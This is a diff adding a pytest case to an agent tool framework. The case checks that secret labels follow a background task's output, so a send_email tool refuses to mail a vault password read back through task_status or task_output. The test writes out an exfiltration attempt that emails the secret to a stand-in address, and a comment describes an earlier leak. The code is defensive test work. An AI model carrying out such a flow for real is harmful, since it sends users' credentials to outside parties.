@@ -136,3 +136,49 @@ def test_label_declarations_are_checked() -> None:
         cm.define_tool(name="t", execute=lambda args: 1, refuses={""})
     tool = cm.define_tool(name="t", execute=lambda args: 1, labels=["a", "a"], refuses=("b",))
     assert tool.labels == frozenset({"a"}) and tool.refuses == frozenset({"b"})
+
+
+def task_registry(outbox: list[str]) -> cm.ToolRegistry:
+    """A ``secret`` tool that answers through a background task, and a sink refusing it."""
+    reg = mail_registry(outbox)
+
+    async def read_vault(args: Any, ctx: cm.ExecContext) -> dict[str, str]:
+        async def job(io: cm.TaskIO) -> dict[str, str]:
+            io.write("password: hunter2\n")
+            return {"password": "hunter2"}
+
+        return {"task": ctx.tasks.start(kind="vault", label="read the vault",
+                                        run=cm.background(job))}
+
+    reg.register(cm.define_tool(name="read_vault", execute=read_vault, labels={"secret"}))
+    for made in cm.task_tools():
+        reg.register(made)
+    return reg
+
+
+@pytest.mark.parametrize("read", ["task_status(id=task)", "task_output(id=task)",
+                                  "task_status()"])
+async def test_a_background_tasks_result_carries_the_labels_of_the_tool_that_started_it(
+        read: str) -> None:
+    # before, a later run (or the same session's next one) read the secret through
+    # task_status / task_output unlabelled and send_email received it
+    outbox: list[str] = []
+    reg = task_registry(outbox)
+    async with cm.TaskManager() as manager, cm.InProcessExecutor() as executor:
+        reg.tasks = manager
+        mode = cm.CodeMode(reg, executor=executor)
+        session = cm.AgentSession("main")
+        started = await mode.run("(await tools.read_vault())['task']", session=session)
+        assert started.error is None, started.error
+        await manager.wait(started.value, session)
+        leak = await mode.run(f"task = {started.value!r}\n"
+                              f"got = await tools.{read}\n"
+                              "await tools.send_email(to='x@example.com', body=str(got))",
+                              session=session)
+    assert leak.error is not None
+    assert "send_email refuses 'secret'" in leak.error.message
+    tool = read.split("(")[0]
+    assert (f"send_email refuses 'secret': read from {tool} at line 2 (task {started.value})"
+            in leak.error.message)
+    assert outbox == []  # the sink's handler was never reached
+    session.dispose()
